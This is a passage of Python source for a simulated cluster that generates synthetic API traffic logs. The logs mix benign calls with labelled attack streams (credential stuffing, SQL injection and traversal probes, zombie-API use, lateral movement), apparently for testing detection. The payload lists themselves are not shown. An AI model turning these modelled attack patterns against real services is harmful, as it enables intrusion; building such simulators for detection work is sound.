    for _ in range(rng.randint(3, 5)):
        t = rng.uniform(a.start + 0.5 * (a.end - a.start), a.end)
        out.append(a.call(t, "ml/notebook", ip, a.principal, "none", _PASTE, _PASTE.template, [], 201, 300, {},
                          req=rng.randint(1_000_000, 5_000_000)))
    return out


def _credential_stuffing(a: _Attack) -> list[SimCall]:
    """An internet client replaying leaked credentials on ``/login``: ~95% 401, a few hits and 429s."""
    ep, rng, ip = _BY_KEY["identity/auth POST /login"], a.rng, f"203.0.113.{10 + a.index % 240}"
    out = []
    for t in a.ticks():
        r = rng.random()
        status, resp = (200, 700) if r < 0.035 else (429, 90) if r < 0.045 else (401, 120)
        out.append(a.call(t, None, ip, None, "none", ep, ep.template, [], status, resp, {}))
    return out


def _injection_payload(a: _Attack, own: dict[str, str]) -> tuple[Endpoint, str, list[str]]:
    rng = a.rng
    form = int(rng.random() * 5)
    if form == 0:
        return _BY_KEY["shop/catalog GET /search"], "/search?q=" + rng.choice(_SQLI + _OTHER_PAYLOADS), []
    if form == 1:
        return _BY_KEY["shop/catalog GET /products"], "/products?category=" + rng.choice(_SQLI), []
    if form == 2:
        order = own["order"]
        return _BY_KEY["shop/orders GET /orders/{id}"], f"/orders/{order}?id=" + rng.choice(_SQLI), [order]
    if form == 3:
        ep, doc = _BY_KEY["data/documents GET /documents/{id}/download"], own["document"]
        return ep, f"/documents/{doc}/download?file=" + rng.choice(_TRAVERSAL), [doc]
    return _BY_KEY["data/documents GET /documents/{id}"], "/documents/" + rng.choice(_TRAVERSAL), []


def _injection(a: _Attack) -> list[SimCall]:
    """A user probing with SQLi, traversal and template payloads, mixed with ordinary calls (malicious=False)."""
    w, rng = a.world, a.rng
    own = {"order": w.new_id("order"), "document": w.new_id("document")}
    out = []
    for t in a.ticks():
        if rng.random() < 0.35:
            ep = _BY_KEY[rng.choice(("shop/catalog GET /search", "shop/orders GET /orders/{id}"))]
            ids = [own["order"]] if ep.kind else []
            raw = f"/orders/{own['order']}" if ep.kind else "/search?q=boots"
            out.append(a.gateway(t, ep, raw, ids, 200, ep.response_bytes, dict(ep.sensitive), malicious=False))
            continue
        ep, raw, ids = _injection_payload(a, own)
        r = rng.random()  # mostly rejected by validation, some server errors (stack traces), some answered
        status, resp = (400, 200) if r < 0.55 else (500, rng.randint(2000, 6000)) if r < 0.7 else (200, 5000)
        out.append(a.gateway(t, ep, raw, ids, status, resp, dict(ep.sensitive) if status == 200 else {}))
    return out


def _retired_api(a: _Attack) -> list[SimCall]:
    """A forgotten client or a scanner on retired routes that still answer (zombie APIs)."""
    w, rng = a.world, a.rng
    retired = [e for e in _ENDPOINTS if e.retired]
    out = []
    for t in a.ticks():
        ep = retired[int(rng.random() * len(retired))]
        ids = [w.random_id(ep.kind)] if ep.kind else []
        raw = ep.prefix + ids[0] + ep.suffix if ids else ep.template
        denied = "admin" in ep.template and rng.random() < 0.7
        status = 403 if denied else 404 if rng.random() < 0.05 else 200
        ok = status == 200
        sens = dict(ep.sensitive) if ok else {}
        out.append(a.gateway(t, ep, raw, ids, status, ep.response_bytes if ok else 150, sens))
    return out


def _lateral_targets(a: _Attack, workload: str) -> list[Service]:
    deps = set(_dependencies()[workload]) | {workload}
    services = {s.qualified: s for s in _build_catalog() if s.namespace}
    others = sorted(q for q in services if q not in deps and q not in _LATERAL_ALWAYS)
    chosen = [q for q in _LATERAL_ALWAYS if q not in deps] + a.rng.sample(others, a.rng.randint(1, 4))
    return [services[q] for q in chosen]


def _any_ids(w: _World, ep: Endpoint) -> list[str]:
    """Ids of other users' objects for a call to ``ep``: none, one, or a page of them."""
    if ep.kind is None:
        return []
    return w.page(ep.kind, w.rng.randrange(100), ep.items) if ep.items > 1 else [w.random_id(ep.kind)]


def _lateral_movement(a: _Attack) -> list[SimCall]:
    """A real workload, compromised, probing services outside its dependency graph (mTLS, no principal)."""
    w, rng = a.world, a.rng
    first = random.Random(f"{a.seed}:lateral").randrange(len(_LATERAL_FROM))
    workload = _LATERAL_FROM[(first + a.ordinal) % len(_LATERAL_FROM)]  # distinct for up to 4 instances
    targets, ip = _lateral_targets(a, workload), w.ips[workload][0]
    out = []
    for t in a.ticks():
        endpoints = [e for e in targets[int(rng.random() * len(targets))].endpoints if not e.retired]
        ep = endpoints[int(rng.random() * len(endpoints))]
        ids = _any_ids(w, ep)
        raw = ep.prefix + ids[0] + ep.suffix if ids and "{" in ep.template else ep.template
        n, ok = max(1, len(ids)), rng.random() < 0.6
        sens = {k: v * n for k, v in ep.sensitive} if ok else {}
        out.append(a.call(t, workload, ip, None, "mtls", ep, raw, ids, ep.ok_status if ok else 403,
                          ep.response_bytes * n if ok else 160, sens))
    return out


_GENERATORS: dict[str, Callable[[_Attack], list[SimCall]]] = {
    "bola": _bola,
    "exfiltration": _exfiltration,
    "credential_stuffing": _credential_stuffing,
    "injection": _injection,
    "retired_api": _retired_api,
    "lateral_movement": _lateral_movement,
}


def plan_attacks(seed: int, duration_s: float, warmup_s: float, per_kind: int = 1) -> list[AttackPlan]:
    """One attacker per kind (``per_kind`` each), started at random after ``warmup_s``, ending inside the run.

    Each attack starts in ``[warmup_s, duration_s - tail]`` with ``tail =
    max(10, min(30, duration_s / 4))`` and lasts ``min(30, duration_s - start)``
    seconds, at a rate drawn from the kind's range.
    """
    tail = max(10.0, min(30.0, 0.25 * duration_s))
    if duration_s - tail < warmup_s:
        raise SettingsError(f"duration_s={duration_s} leaves no room for attacks after warmup_s={warmup_s}")
    rng = random.Random(f"{seed}:plan")
    plans = []
    for kind in ATTACK_KINDS:
        for k in range(per_kind):
            start = rng.uniform(warmup_s, duration_s - tail)
            plans.append(AttackPlan(kind, f"{kind}-{k + 1}", start, min(30.0, duration_s - start),
                                    round(rng.uniform(*_ATTACK_RATES[kind]), 2)))
    return plans


# ---------------------------------------------------------------- the simulator


class ClusterSimulator:
    """A seeded simulated cluster; ``calls(duration_s)`` yields its traffic in time order.

    Parameters: ``seed`` (every draw derives from it), ``users`` (end users,
    about 1% of them support agents), ``start_time`` (Unix s), ``attacks``
    (``AttackPlan`` list, see ``plan_attacks``), ``benign_rate_eps`` (mean
    benign calls/s, modulated by a +-20% sine over the run).

    >>> sim = ClusterSimulator(seed=1, users=200, benign_rate_eps=100.0)
    >>> calls = list(sim.calls(5.0))
    >>> all(a.time <= b.time for a, b in zip(calls, calls[1:]))
    True
    """

    plan_attacks = staticmethod(plan_attacks)

    def __init__(self, seed: int = 7, users: int = 3000, start_time: float = 1.8e9,
                 attacks: Sequence[AttackPlan] = (), benign_rate_eps: float = 2000.0) -> None:
        if not 10 <= users <= 90000:
            raise SettingsError(f"users={users} must be in [10, 90000] (user-9xxxx ids are attackers')")
        if benign_rate_eps <= 0:
            raise SettingsError(f"benign_rate_eps={benign_rate_eps} must be > 0")
        self._seed, self._users, self._start, self._rate = seed, users, start_time, benign_rate_eps
        self._attacks = tuple(attacks)
        self._catalog = _build_catalog()

    @property
    def catalog(self) -> tuple[Service, ...]:
        """Every destination service (in-cluster and external) with its endpoints."""
        return self._catalog

    @property
    def attacks(self) -> tuple[AttackPlan, ...]:
        """The planned attacks."""
        return self._attacks

    @property
    def retired_endpoints(self) -> list[str]:
        """Retired routes as ``service METHOD /template`` (service = ``destination.service``)."""
        return sorted(e.key for s in self._catalog for e in s.endpoints if e.retired)

    @property
    def service_dependencies(self) -> dict[str, list[str]]:
        """Workload (``namespace/name``) -> the services it calls (``namespace/name``, or host if external)."""
        return _dependencies()

    @property
    def support_agents(self) -> list[str]:
        """Principals of the support agents, who legitimately read other users' objects."""
        world = _World(self._seed, self._users)
        return sorted(world.principals[u] for u in world.agents)

    def calls(self, duration_s: float) -> Iterator[SimCall]:
        """Yield the calls of ``[start_time, start_time + duration_s)`` in non-decreasing time order."""
        world = _World(self._seed, self._users)
        t0, t1 = self._start, self._start + duration_s
        reporting = self._rate * _REPORTING_SHARE
        streams: list[Iterator[SimCall]] = [
            iter(_Benign(world, self._seed, t0, t1, self._rate - reporting)),
            _reporting(world, self._seed, t0, t1, reporting),
        ]
        streams += [iter(self._attack_calls(i, world, t0, t1)) for i in range(len(self._attacks))]
        return heapq.merge(*streams, key=attrgetter("time"))

    def _attack_calls(self, index: int, world: _World, t0: float, t1: float) -> list[SimCall]:
        plan = self._attacks[index]
        ordinal = sum(1 for p in self._attacks[:index] if p.kind == plan.kind)
        base = random.Random(f"{self._seed}:attackers").randrange(10000)
        attack = _Attack(plan, world, random.Random(f"{self._seed}:{plan.attack_id}"), t0 + plan.start,
                         min(t1, t0 + plan.start + plan.duration_s), f"user-9{(base + index) % 10000:04d}",
                         index, ordinal, self._seed)
        return sorted(_GENERATORS[plan.kind](attack), key=attrgetter("time"))


# ---------------------------------------------------------------- writers


def _rows(calls: Iterable[SimCall], object_id_key: bytes, id_prefix: str) -> Iterator[dict[str, Any]]:
    for i, call in enumerate(calls):
        yield call.to_row(f"{id_prefix}-{i:010d}", object_id_key)


def write_jsonl(calls: Iterable[SimCall], path: str | Path, object_id_key: bytes, id_prefix: str = "sim") -> int:
    """Write calls as ``RequestSummary`` JSON lines; return the number written."""
    n = 0
    with open(path, "w", encoding="utf-8") as out:
        for row in _rows(calls, object_id_key, id_prefix):
            out.write(row_to_summary(row).model_dump_json() + "\n")
            n += 1
    return n


def write_parquet(calls: Iterable[SimCall], path: str | Path, object_id_key: bytes, id_prefix: str = "sim",
                  batch_rows: int = 50_000) -> int:
    """Write calls as a Parquet file with the ``RequestSummary`` Arrow schema; return the number written."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from ingest.envelope import arrow_schema

    schema, n, batch = arrow_schema(RequestSummary), 0, []
    with pq.ParquetWriter(str(path), schema) as writer:
        for row in _rows(calls, object_id_key, id_prefix):
            batch.append(row)
            if len(batch) >= batch_rows:
                writer.write_batch(pa.RecordBatch.from_pylist(batch, schema=schema))
                n, batch = n + len(batch), []
        if batch:
            writer.write_batch(pa.RecordBatch.from_pylist(batch, schema=schema))
    return n + len(batch)
